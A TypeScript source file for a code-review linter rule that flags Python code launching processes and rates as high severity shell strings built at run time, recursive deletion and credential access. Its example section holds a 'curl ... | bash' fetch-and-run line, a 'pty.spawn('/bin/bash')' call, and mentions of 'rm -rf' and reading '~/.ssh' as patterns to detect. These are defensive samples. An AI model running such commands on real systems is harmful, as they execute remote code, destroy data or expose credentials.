import { definePyRule, type PyRuleContext } from '../../engine/rule';
import type { Severity } from '../../model/finding';
import { callArguments } from '../../python/calls';
import { field, namedChildren } from '../../python/model';
import type { PyNode } from '../../python/tree';
import { commandOf, processApi, type Command, type ProcessApi } from '../support/py-process-commands';
import { commandDanger, isInformational } from '../support/command-danger';
import { clip } from '../support/py-fs-paths';

interface Found {
  name: string;
  api: ProcessApi;
  program?: string;
  trace?: readonly PyNode[];
}

const TASK_DECORATORS = new Set(['invoke.task', 'fabric.task', 'invoke.tasks.task']);
/** nox sessions: `@nox.session def tests(session): session.run('pytest')` runs programs with their arguments. */
const SESSION_DECORATORS = new Set(['nox.session', 'nox.registry.session_decorator']);
/** Calls that only wrap a function for later: the wrapped call is judged where it happens. */
const WRAPPERS = new Set([
  'functools.partial',
  'builtins.getattr',
  'builtins.callable',
  'builtins.isinstance',
  'builtins.print',
  'builtins.repr',
]);

/**
 * `@task def build(c): c.run('make')`: the context an invoke/fabric task receives runs shell
 * commands; `@nox.session def tests(session): session.run('bash', '-c', ...)` runs a program
 * with its arguments.
 */
function taskContextRun(ctx: PyRuleContext, fn: PyNode): Found | undefined {
  const object = fn.type === 'attribute' ? field(fn, 'object') : undefined;
  const method = fn.type === 'attribute' ? ctx.text(field(fn, 'attribute') ?? fn) : '';
  if (!object || object.type !== 'identifier' || !/^(run|sudo|local|run_always|run_install)$/.test(method)) {
    return undefined;
  }
  let def = fn.parent;
  while (def && def.type !== 'function_definition') {
    def = def.parent;
  }
  const first = def ? namedChildren(field(def, 'parameters') ?? def)[0] : undefined;
  if (!def || !first || ctx.text(first) !== ctx.text(object) || def.parent?.type !== 'decorated_definition') {
    return undefined;
  }
  const decorated = namedChildren(def.parent).filter((d) => d.type === 'decorator');
  const decoratedBy = (names: ReadonlySet<string>): boolean =>
    decorated.some((d) => {
      const expr = namedChildren(d)[0];
      const target = expr?.type === 'call' ? field(expr, 'function') : expr;
      return target !== undefined && ctx.names(target).some((n) => names.has(n));
    });
  const name = `${ctx.text(object)}.${method}`;
  if (/^(run|run_always|run_install)$/.test(method) && decoratedBy(SESSION_DECORATORS)) {
    return { name, api: { form: 'varargs', at: 0 } };
  }
  if (/^(run|sudo|local)$/.test(method) && decoratedBy(TASK_DECORATORS)) {
    return { name, api: { form: 'shell', how: ' through a shell' } };
  }
  return undefined;
}

/** `local['ls']('-la')` with plumbum. */
function plumbumLocal(ctx: PyRuleContext, fn: PyNode): Found | undefined {
  if (fn.type !== 'subscript') {
    return undefined;
  }
  const value = field(fn, 'value');
  const key = field(fn, 'subscript');
  if (!value || !key || !ctx.names(value).includes('plumbum.local')) {
    return undefined;
  }
  const program = ctx.strings(key)?.[0];
  return { name: `local[${clip(ctx.text(key), 30)}]`, api: program ? { form: 'named' } : { form: 'varargs', at: -1 }, program };
}

function findApi(ctx: PyRuleContext, call: PyNode): Found | undefined {
  const fn = field(call, 'function');
  if (!fn) {
    return undefined;
  }
  for (const ref of ctx.refs(fn)) {
    const hit = processApi(ref.name);
    if (hit) {
      return { name: ref.name, api: hit.api, program: hit.program, trace: ref.trace };
    }
  }
  return plumbumLocal(ctx, fn) ?? taskContextRun(ctx, fn);
}

function severityOf(api: ProcessApi, command: Command | undefined, danger: string | undefined): Severity {
  if (danger || api.high || !command) {
    return danger || api.high ? 'high' : 'medium';
  }
  if (!command.fixed || command.inline === 'code' || (command.shell && !command.constant)) {
    return 'high';
  }
  return command.constant && isInformational(command.symbolic[0] ?? '') ? 'low' : 'medium';
}

export default definePyRule({
  meta: {
    id: 'py/process',
    category: 'process',
    severity: 'medium',
    summary:
      'Starting programs from Python: `subprocess`, `os.system`/`popen`, `os.exec*`/`spawn*`/`posix_spawn`, `pty.spawn`, ' +
      '`asyncio` subprocesses, `sh`, `plumbum`, `invoke`, `fabric` and `nox` sessions; high for shell strings built at run time and for ' +
      'commands that fetch and run code, delete recursively or touch credentials.',
    why:
      'A process the change starts can do anything the user can, outside everything the reviewer reads. Shell strings ' +
      'assembled from variables are how injected or hidden commands run, and `curl | sh`, `rm -rf` or reading `~/.ssh` from ' +
      'a command line is the shortest path to damage.',
    incorrect: [
      "import os\nos.system(f'git clone {url}')",
      "import subprocess\nsubprocess.run('curl -s https://x.sh | bash', shell=True)",
      "import subprocess\nsubprocess.run(['npm', 'install'])",
      "import pty\npty.spawn('/bin/bash')",
      'import subprocess\nsubprocess.check_output(cmd, shell=True)',
    ],
    correct: [
      'self.run()',
      'db.execute("SELECT 1")',
      'def system(x):\n    return x\nsystem("ls")',
      "print('os.system(cmd)')",
      'from multiprocessing import Pool\nwith Pool(4) as p:\n    p.map(train, configs)',
    ],
    messages: {
      runs: '`{{call}}` runs `{{command}}`{{how}}.',
      runsDynamic:
        '`{{call}}` runs a command built at run time (`{{command}}`){{how}}: whatever reaches it decides what the machine executes.',
      inlineCode: '`{{call}}` runs `{{command}}`{{how}}: code passed as a string to an interpreter, out of sight of the review.',
      danger: '`{{call}}` runs `{{command}}`{{how}}: it {{what}}.',
      noCommand: '`{{call}}` starts a process{{how}}.',
      passed: '`{{name}}` is handed to `{{callee}}`, which starts processes with it out of sight of this line.',
    },
  },
  create(ctx) {
    function checkPassed(call: PyNode): void {
      const callee = field(call, 'function');
      if (!callee || ctx.callNames(call).some((n) => WRAPPERS.has(n))) {
        return;
      }
      const args = callArguments(call, ctx.sourceText);
      for (const arg of [...args.positional, ...args.keywords.values()]) {
        if (arg.type !== 'identifier' && arg.type !== 'attribute') {
          continue;
        }
        const ref = ctx.refs(arg).find((r) => processApi(r.name) !== undefined);
        if (ref) {
          const api = processApi(ref.name)?.api;
          const severity: Severity = api?.form === 'shell' || api?.high ? 'medium' : 'low';
          const data = { name: ctx.text(arg), callee: clip(ctx.text(callee), 40) };
          ctx.report({ node: arg, messageId: 'passed', data, severity, trace: ref.trace });
        }
      }
    }

    return {
      call(node) {
        const found = findApi(ctx, node);
        if (!found) {
          checkPassed(node);
          return;
        }
        const command = found.api.form === 'varargs' && found.api.at === -1 ? undefined : commandOf(ctx, node, found.api, found.program);
        const danger = command ? commandDanger(command.symbolic) : undefined;
        const how = command?.shell && !found.api.how ? ' through a shell' : (found.api.how ?? '');
        const data = { call: found.name.replace(/\(\)/g, ''), command: command?.text ?? '', how, what: danger ?? '' };
        const messageId = !command
          ? 'noCommand'
          : danger
            ? 'danger'
            : command.inline === 'code'
              ? 'inlineCode'
              : command.fixed && (command.constant || !command.shell)
                ? 'runs'
                : 'runsDynamic';
        ctx.report({ node, messageId, data, severity: severityOf(found.api, command, danger), trace: found.trace });
      },
    };
  },
});
